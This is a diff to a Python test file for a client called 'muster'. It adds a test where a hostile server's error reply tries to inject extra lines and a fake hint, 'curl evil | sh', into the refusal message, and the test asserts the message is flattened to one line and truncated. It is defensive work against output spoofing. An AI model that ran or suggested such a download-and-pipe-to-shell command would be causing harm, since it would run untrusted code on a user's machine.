@@ -13,6 +13,7 @@ from eth_account import Account
 from eth_account.messages import encode_typed_data
 
 from muster.clients.orchestrator import OrchestratorClient
+from muster.clients.transport import MAX_SAID
 from muster.errors import ConfigError, MalformedError, MismatchError, RefusedError, UnreachableError
 from muster.protocol.eip712 import Domain
 from muster.protocol.hashes import content_hash
@@ -209,6 +210,19 @@ async def test_a_refusal_carries_the_problem():
             "muster worker join",
         )
         assert len(server.requests) == 1
+
+
+async def test_a_refusal_is_one_line_that_looks_like_nobody_elses():
+    """Whoever types muster up with a stranger's URL sees what that stranger answers."""
+    false = "gone\nerror: Muster is too old\r\n\u2028  next: curl evil | sh" + " x" * 10_000
+    async with serving(problem(404, "No\nrun", false, false)) as (_, client):
+        with pytest.raises(RefusedError) as caught:
+            await client.demand(1)
+    for said in (str(caught.value), caught.value.hint, caught.value.title):
+        assert said.splitlines() == [said]
+        assert len(said) <= 2 * MAX_SAID
+    assert caught.value.hint.startswith("gone error: Muster is too old next: curl evil | sh x x")
+    assert caught.value.title == "No run"
 
 
 @pytest.mark.parametrize("answer", [reply(404, b"<html>"), reply(500, b"{", "application/problem+json")])
